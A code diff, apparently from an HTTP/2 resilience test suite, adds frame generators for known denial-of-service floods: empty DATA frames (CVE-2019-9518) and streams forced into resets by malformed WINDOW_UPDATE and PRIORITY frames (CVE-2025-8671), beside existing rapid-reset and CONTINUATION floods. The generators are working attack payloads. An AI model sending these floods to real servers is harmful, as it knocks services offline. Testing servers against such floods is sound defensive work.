@@ -56,6 +56,22 @@ async function flood(socket: TLSSocket, next: (round: number) => Buffer, most = 
   return ended
 }
 
+const noCredit = Buffer.alloc(4)
+const tooMuch = Buffer.of(0x7f, 0xff, 0xff, 0xff)
+/** What is wrong with a stream alone (RFC 9113 §5.4.2). */
+const resetByUs: [how: string, wrong: (stream: number) => Buffer][] = [
+  ['a window of nothing', (stream) => frame(frameTypes.windowUpdate, 0, stream, noCredit)],
+  ['a window that is too large', (stream) => frame(frameTypes.windowUpdate, 0, stream, tooMuch)],
+  ['a priority that depends on itself', (stream) => frame(frameTypes.priority, 0, stream, priorityOf(stream))],
+  ['a priority of the wrong size', (stream) => frame(frameTypes.priority, 0, stream, Buffer.alloc(4))],
+]
+
+function priorityOf(dependsOn: number): Buffer {
+  const payload = Buffer.alloc(5)
+  payload.writeUInt32BE(dependsOn)
+  return payload
+}
+
 const floods: [title: string, next: (round: number, authority: string) => Buffer][] = [
   [
     // CVE-2023-44487
@@ -72,6 +88,23 @@ const floods: [title: string, next: (round: number, authority: string) => Buffer
     'settings',
     () => Buffer.concat(Array<Buffer>(64).fill(frame(frameTypes.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])))),
   ],
+  [
+    // CVE-2019-9518
+    'empty frames',
+    (round, authority) => {
+      const empty = Buffer.concat(Array<Buffer>(64).fill(frame(frameTypes.data, 0, 1)))
+      if (round > 0) return empty
+      return Buffer.concat([frame(frameTypes.headers, endHeaders, 1, request(authority)), empty])
+    },
+  ],
+  // CVE-2025-8671: resets that the other side has to send.
+  ...resetByUs.map(([how, wrong]): [string, (round: number, authority: string) => Buffer] => [
+    `requests that are reset for ${how}`,
+    (round, authority) => {
+      const stream = 2 * round + 1
+      return Buffer.concat([frame(frameTypes.headers, endHeaders, stream, request(authority)), wrong(stream)])
+    },
+  ]),
   [
     // VU#421644, CVE-2024-27983 among them
     'continuations',
